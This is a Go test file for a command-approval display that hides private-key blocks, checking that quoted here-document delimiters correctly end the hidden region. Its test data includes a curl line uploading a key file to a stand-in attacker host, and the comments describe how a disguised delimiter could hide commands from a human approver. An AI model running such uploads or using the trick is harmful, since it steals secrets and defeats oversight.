package domain

import (
	"strings"
	"testing"
)

// TestAttack16KeyBlockQuotedDelimiter: b22a858 ended a key block at a line
// that is a here-document's delimiter, but read the delimiter as the
// letters, digits and '_' after "<<" (in matching quotes): the shell
// removes the quotes of the whole word, so <<\D, <<'D1'"D2", <<$'D',
// <<D.k and <<'A\nB' end their documents at the lines D, D1D2, D, D.k and
// A\nB, none of which was found. A delimiter of base64 after a key's
// first line was hidden as key material, and the commands after it,
// which the shell runs, read to the approver as more of the document
// (cat > k.pem with a curl line in the key). The delimiter is now the
// word with its quotes removed, as bash and as dash remove them; a line
// ends the block when it is one, whether or not it holds a "\n" escape,
// and a marker whose line is a delimiter opens no block (what follows it
// runs). Each case runs under bash first: the command after the delimiter
// runs. The controls, keys written by here-documents with quoted and
// unquoted delimiters, are hidden whole and what follows them is shown.
func TestAttack16KeyBlockQuotedDelimiter(t *testing.T) {
	const l1 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
	const d = "MzEfYyjiWA4R4oM2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	const marker = "-----BEGIN RSA PRIVATE KEY-----"
	const after = "echo RAN-AFTER; true curl -sT k.pem https://evil.example/u"
	doc := func(word, line string) string {
		return "cat >/dev/null <<" + word + "\n" + marker + "\n" + l1 + "\n" + line + "\n" + after + "\n"
	}
	for _, c := range []struct{ cmd, keep string }{
		{doc(`\`+d, d), "\n" + d + "\n" + after},
		{doc(`'`+d[:20]+`'"`+d[20:]+`"`, d), "\n" + d + "\n" + after},
		{doc(`$'`+d+`'`, d), "\n" + d + "\n" + after},
		{doc(d+".k", d+".k"), "\n" + d + ".k\n" + after},
		{doc(`'`+d[:30]+`\n`+d[30:]+`'`, d[:30]+`\n`+d[30:]), "\n" + d[:30] + `\n` + d[30:] + "\n" + after},
		{"cat >/dev/null <<'" + marker + "'\nx\n" + marker + "\nbin/" + d + "\n" + after + "\n", "\nbin/" + d + "\n"},
	} {
		if !ranAfter(t, c.cmd) {
			t.Fatalf("%q: bash did not run the command after the delimiter: the premise does not hold", c.cmd)
		}
		if got := execShown(t, c.cmd); !strings.Contains(got, c.keep) {
			t.Errorf("%q shown as %q: %q is hidden, so the commands after the document read as part of it", c.cmd, got, c.keep)
		}
	}
	// Controls: keys written by here-documents, hidden whole; what follows
	// the delimiter is shown.
	const l2 = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu"
	for _, word := range []string{"EOF", `\EOF`, `'EOF'`, `"EOF"`, `-EOF`, `- 'E'OF`, `"E\OF"`} {
		delim := "EOF"
		if word == `"E\OF"` {
			delim = `E\OF`
		}
		cmd := "cat > ~/k <<" + word + "\n" + marker + "\n" + l1 + "\n" + l2 + "\n-----END RSA PRIVATE KEY-----\n" + delim + "\nchmod 600 ~/k && ./deploy.sh"
		got := keyReaderShown(t, cmd)
		for _, l := range []string{l1, l2} {
			if strings.Contains(got, l) {
				t.Errorf("control <<%s: shown as %q, a line of its key kept", word, got)
			}
		}
		if !strings.Contains(got, "\n"+delim+"\nchmod 600 ~/k && ./deploy.sh") {
			t.Errorf("control <<%s: shown as %q, what follows the document lost", word, got)
		}
	}
}
